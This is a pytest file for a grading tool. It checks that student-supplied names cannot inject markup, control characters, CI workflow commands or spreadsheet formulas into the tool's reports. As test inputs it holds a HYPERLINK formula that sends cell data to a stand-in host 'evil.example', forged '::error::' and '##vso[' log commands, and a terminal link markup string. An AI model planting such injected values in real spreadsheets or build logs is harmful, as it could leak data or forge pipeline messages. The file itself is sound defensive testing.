"""What people and programs read of a class that tries to write there: the terminal, the page, the JSON."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest

from grader.hand_ins.collect import clean_name
from grader.outcome import harmless
from grader.scoring import Report
from grader.watch import watch

from .arena import Fight, arena, fight
from .corpus import read_corpus

WRITERS = [attack for attack in read_corpus() if attack.item in ("F91", "F92", "F93", "F94")]
VOID = ("meta", "link", "br", "hr", "img", "input")
TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "div", "span", "table", "thead", "tbody",
    "tr", "th", "td", "a", "details", "summary", "strong", "b", "i", "code",
}  # fmt: skip
ATTRIBUTES = {"lang", "charset", "name", "content", "http-equiv", "class", "id", "href", "style"}
COMMAND = re.compile(r"^\s*::|##\w*\[", re.MULTILINE)


@pytest.fixture(scope="module")
def fought() -> Iterator[Fight]:
    """Grade all attacks that write to people once."""
    with arena() as places:
        yield fight(places, WRITERS, "L1")


class Page(HTMLParser):
    """Every tag, attribute and word of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.words: list[str] = []
        self.open: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep a tag and its attributes."""
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        self.open += [] if tag in VOID else [tag]

    def handle_endtag(self, tag: str) -> None:
        """Close what was opened last."""
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        """Keep what a reader sees."""
        self.words.append(data.strip())

    def handle_comment(self, data: str) -> None:
        """Keep that there is one."""
        self.tags.append("comment")


def test_page_holds_tags_of_ours_only(fought: Fight) -> None:
    """No script, image, comment or attribute of a student's, no tag closed early, nothing from elsewhere."""
    page = Page(fought.written["report.html"].decode())
    assert set(page.tags) <= TAGS
    assert {name for name, _ in page.attributes} <= ATTRIBUTES
    assert page.open == []
    assert all(re.fullmatch(r"#r[0-9a-f]{12}", value) for name, value in page.attributes if name == "href")
    assert all(re.fullmatch(r"width: [\d.]+%", value) for name, value in page.attributes if name == "style")


def test_page_shows_each_name_as_it_is(fought: Fight) -> None:
    """Formulas, templates, Markdown and escapes in a name are text, in the table of scores and above the checks."""
    words = Page(fought.written["report.html"].decode()).words
    for attack in WRITERS:
        assert words.count(clean_name(attack.student or attack.name)) >= 2, attack.name


def test_output_holds_no_control_character(fought: Fight) -> None:
    """No escape, return, bell or turn of direction reaches a terminal or the page; lines end in a line feed."""
    for name in ("stdout", "stderr", "report.html"):
        assert {char for char in fought.written[name].decode() if not char.isprintable()} <= {"\n"}, name


def test_no_line_of_the_output_is_a_command(fought: Fight) -> None:
    """GitHub finds no `::` at the head of a line, and no service `##[` or `##word[` anywhere."""
    assert COMMAND.findall(fought.stdout + fought.stderr) == []
    assert " : :notice::forged" in fought.stdout  # a line was broken before a command


def test_each_student_has_a_result_that_is_plain_text(fought: Fight) -> None:
    """No two share a file, whatever they are called; each names its student, without a control character."""
    files = {name: json.loads(data) for name, data in fought.written.items() if name.endswith("/scaled.json")}
    others = ("F94j_müller", "F94k_?", "F94k_?", "victim")  # whom attacks lay beside themselves, and the victim
    students = sorted(
        [*(clean_name(a.student or a.name) for a in WRITERS), *(f"{a.name}.honest" for a in WRITERS), *others]
    )
    assert sorted(result["student"] for result in files.values()) == students
    assert all(re.fullmatch(r"[\w.@+-]+/scaled\.json", name, re.ASCII) for name in files)
    texts = [text for result in files.values() for text in strings(result)]
    assert {char for text in texts for char in text if not char.isprintable()} == set()


def strings(value: object) -> Iterator[str]:
    """Yield every text in JSON data."""
    if isinstance(value, str):
        yield value
    for part in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from strings(part)


def test_formula_stays_text_in_json_page_and_table(fought: Fight) -> None:
    """A name that is a formula stands unchanged in quotation marks or between tags; in a cell an apostrophe leads."""
    assert [name for name in fought.written if name.endswith((".csv", ".tsv", ".xlsx"))] == ["grades.csv"]
    rows = list(csv.reader(io.StringIO(fought.written["grades.csv"].decode())))
    assert """'=HYPERLINK("https:evil.example"&A1,"me")""" in [cell for row in rows for cell in row]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {len(row) for row in rows} == {len(rows[0])}
    result = fought.results["F93_is_called_by_a_formula"]
    assert result["student"] == '=HYPERLINK("https:evil.example"&A1,"me")'
    assert b"<td>=HYPERLINK(&#34;https:evil.example&#34;&amp;A1,&#34;me&#34;)</td>" in fought.written["report.html"]


def test_names_that_read_alike_are_told(fought: Fight) -> None:
    """Twins by spelling are passed over, twins by what is shown have results of their own; both are said."""
    assert "F94h André/scaled.py: passed over, the same student has another hand-in" in fought.stdout
    assert "F94k_?: 3 students are called so here; each has a folder of results" in fought.stdout
    assert fought.results["victim"]["score"] == 10


def test_json_on_the_output_is_no_command_and_means_the_same(fought: Fight) -> None:
    """What `--format json` prints is read as what the files hold."""
    places = fought.places
    command = ["grade", places.hand_ins, "-a", "scaled", "--course", places.course, "-o", places.out, "--seed", "11"]
    command += ["--sandbox", "L1", "--format", "json"]
    done = subprocess.run(
        [sys.executable, "-m", "grader", *map(str, command)], capture_output=True, timeout=300, check=False
    )
    said = done.stdout.decode()
    assert COMMAND.findall(said + done.stderr.decode()) == []
    assert any("##[error]forged" in text for text in strings(json.loads(said)))
    assert {char for char in said if not char.isprintable()} <= {"\n"}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("::error::x", ": :error::x"),
        ("a\n \t::error::x", "a\n \t: :error::x"),
        ("a ::error::x", "a ::error::x"),
        ("`x[::2]`", "`x[::2]`"),
        (":x:", ":x:"),
        ("a ##[error]x", "a # #[error]x"),
        ("###[error]x", "## #[error]x"),
        ("##vso[task]x", "# #vso[task]x"),
        ("## x[1]", "## x[1]"),
    ],
)
def test_only_commands_are_changed(text: str, shown: str) -> None:
    """A slice, a heading and a double colon within a line are left as they are."""
    assert harmless(text) == shown
    assert harmless(shown) == shown


def test_progress_bar_takes_no_name_for_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    """A name in the markup of the library that draws the bar is drawn, not obeyed."""
    terminal = io.StringIO()
    monkeypatch.setattr(terminal, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(sys, "stderr", terminal)
    for name, value in (("TERM", "xterm-256color"), ("COLUMNS", "200")):
        monkeypatch.setenv(name, value)
    with watch(events=False, quiet=False) as table:
        table.started({"scaled": 1})
        table.graded(Report("[link=https:e.x]me[/]", "scaled", (), ()), 1)
    assert "[link=https:e.x]me[/] scaled" in terminal.getvalue()
    assert "\x1b]8;" not in terminal.getvalue()
